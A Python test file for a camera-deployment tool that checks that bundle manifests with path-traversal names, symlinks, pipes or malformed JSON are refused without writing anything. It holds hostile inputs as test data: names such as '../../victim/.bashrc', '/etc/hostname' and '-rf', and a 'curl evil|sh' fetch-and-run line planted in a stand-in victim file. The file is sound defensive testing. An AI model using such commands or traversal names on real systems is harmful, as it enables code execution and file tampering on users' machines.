"""A bundle from outside: nothing but its own, listed files is read, and nothing is written beside the drive."""

import hashlib
import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.openmv_app.firmware import Board
from tinyinspect.deployment.deploy import MARK, deploy_to_drive
from tinyinspect.deployment.device_check import compare
from tinyinspect.deployment.manifest import LARGEST_BYTES, MANIFEST, read_files
from tinyinspect.errors import InputError
from tinyinspect.tasks.cascade import Variant, read_half

ROOT = Path(__file__).parents[2]
NONE = hashlib.sha256(b"").hexdigest()
GOOD = {"sha256": NONE, "bytes": 0}
FACTS = {
    "board": "openmv_h7",
    "firmware": {"oldest": "4.5.6", "newest": "5.0.0", "verified": "5.0.0"},
    "expected": None,
    "compiler": None,
}
NAMES = [
    "../x",
    "../../x",
    "a/../../x",
    "/etc/hostname",
    "a/b/c",
    ".hidden",
    "a/.hidden",
    "..",
    ".",
    "",
    "a//b",
    "a\\b",
]
NAMES += ["C:x", "a\0b", "\ud800", "a\n", "a.", "a/", "-rf", "x" * 200]
CONTENTS = {
    "cut off": b'{"files":',
    "empty": json.dumps(FACTS | {"files": {}}).encode(),
    "no facts": json.dumps({"files": {"x": GOOD}}).encode(),
    "another time": json.dumps(FACTS | {"files": {"x": GOOD}, "expected": {"milliseconds": "soon"}}).encode(),
    "a list": b"[1,2]",
    "no files": json.dumps(FACTS).encode(),
    "null": json.dumps(FACTS | {"files": {"x": None}}).encode(),
    "no text": bytes(range(128, 160)),
    "nested": b"[" * 100_000,
    "nested in a fact": b'{"files":{},"x":' + b"[" * 100_000,
    "no hash": json.dumps(FACTS | {"files": {"x": {"sha256": "00", "bytes": 1}}}).encode(),
    "no size": json.dumps(FACTS | {"files": {"x": {"sha256": NONE}}}).encode(),
    "a negative size": json.dumps(FACTS | {"files": {"x": {"sha256": NONE, "bytes": -1}}}).encode(),
    "one file to the camera": json.dumps(FACTS | {"files": {"x": GOOD, "X": GOOD}}).encode(),
    "too large": b" " * (LARGEST_BYTES + 1),
}


@pytest.fixture
def drive(tmp_path: Path) -> Path:
    folder = tmp_path / "drive"
    folder.mkdir()
    (folder / MARK).touch()
    return folder


def bundle_of(folder: Path, content: bytes) -> Path:
    folder.mkdir(parents=True)
    (folder / "x").touch()
    (folder / MANIFEST).write_bytes(content)
    return folder


def refused(bundle: Path, drive: Path) -> str:
    """The sentence with which everything that reads a bundle refuses this one, with nothing written anywhere."""
    before = sorted(path for path in bundle.parent.rglob("*"))
    with pytest.raises(InputError) as said:
        deploy_to_drive(bundle, drive)
    with pytest.raises(InputError):
        read_half(bundle, Variant.GATE)
    with pytest.raises(InputError):
        compare(bundle, None)
    assert sorted(path for path in bundle.parent.rglob("*")) == before
    assert "\n" not in str(said.value)
    return str(said.value)


@pytest.mark.parametrize("content", CONTENTS.values(), ids=CONTENTS)
def test_a_manifest_that_is_none(tmp_path, drive, content):
    assert str(tmp_path / "bundle") in refused(bundle_of(tmp_path / "bundle", content), drive)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_is_not_plain(tmp_path, drive, name):
    bundle = bundle_of(tmp_path / "a/b/bundle", json.dumps(FACTS | {"files": {name: GOOD}}).encode())
    for place in (tmp_path / "a/b/x", tmp_path / "a/x", tmp_path / "a/b/bundle/x"):
        place.touch()
    assert "is no manifest" in refused(bundle, drive)


def test_a_file_outside_the_drive_stays_what_it_is(tmp_path, drive):
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim/.bashrc").write_text("curl evil|sh\n")
    entry = {"sha256": hashlib.sha256(b"curl evil|sh\n").hexdigest(), "bytes": 13}
    bundle = bundle_of(tmp_path / "a/bundle", json.dumps(FACTS | {"files": {"../../victim/.bashrc": entry}}).encode())
    refused(bundle, drive)
    assert [path.name for path in drive.iterdir()] == [MARK]


@pytest.mark.parametrize("kind", ["file", "folder", "pipe", "directory", "longer"])
def test_a_file_that_is_none_of_the_bundle(tmp_path, drive, kind):
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret/y").touch()
    name = "s/y" if kind == "folder" else "y"
    bundle = bundle_of(tmp_path / "bundle", json.dumps(FACTS | {"files": {name: GOOD}}).encode())
    if kind == "file":
        (bundle / "y").symlink_to(tmp_path / "secret/y")
    elif kind == "folder":
        (bundle / "s").symlink_to(tmp_path / "secret")
    elif kind == "pipe":
        os.mkfifo(bundle / "y")
    elif kind == "directory":
        (bundle / "y").mkdir()
    else:
        (bundle / "y").write_text("more")
    assert str(bundle / name) in refused(bundle, drive)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    content=st.recursive(
        st.none() | st.integers() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(st.sampled_from(["files", "sha256", "bytes", "x", "../x"]), inner, max_size=4)
        ),
    )
)
def test_whatever_json_stands_there_ends_in_files_or_one_sentence(tmp_path_factory, content):
    folder = tmp_path_factory.mktemp("bundle")
    (folder / MANIFEST).write_text(json.dumps(FACTS | content if isinstance(content, dict) else content))
    try:
        assert read_files(folder) == []
    except InputError as error:
        assert "\n" not in str(error)


@pytest.mark.parametrize("name", [*NAMES[:11], "check_frames/../../x"])
def test_the_camera_refuses_such_names_too(tmp_path, name):
    (tmp_path / "drive").mkdir()
    board = Board((5, 0, 0), tmp_path / "drive", [])
    board.run_source(f"FILES = [({name!r}, 0, {NONE!r})]\n" + (ROOT / "openmv_app/receive.py").read_text())
    assert board.printed[-1].startswith("error: ") and "it is no plain name" in board.printed[-1]
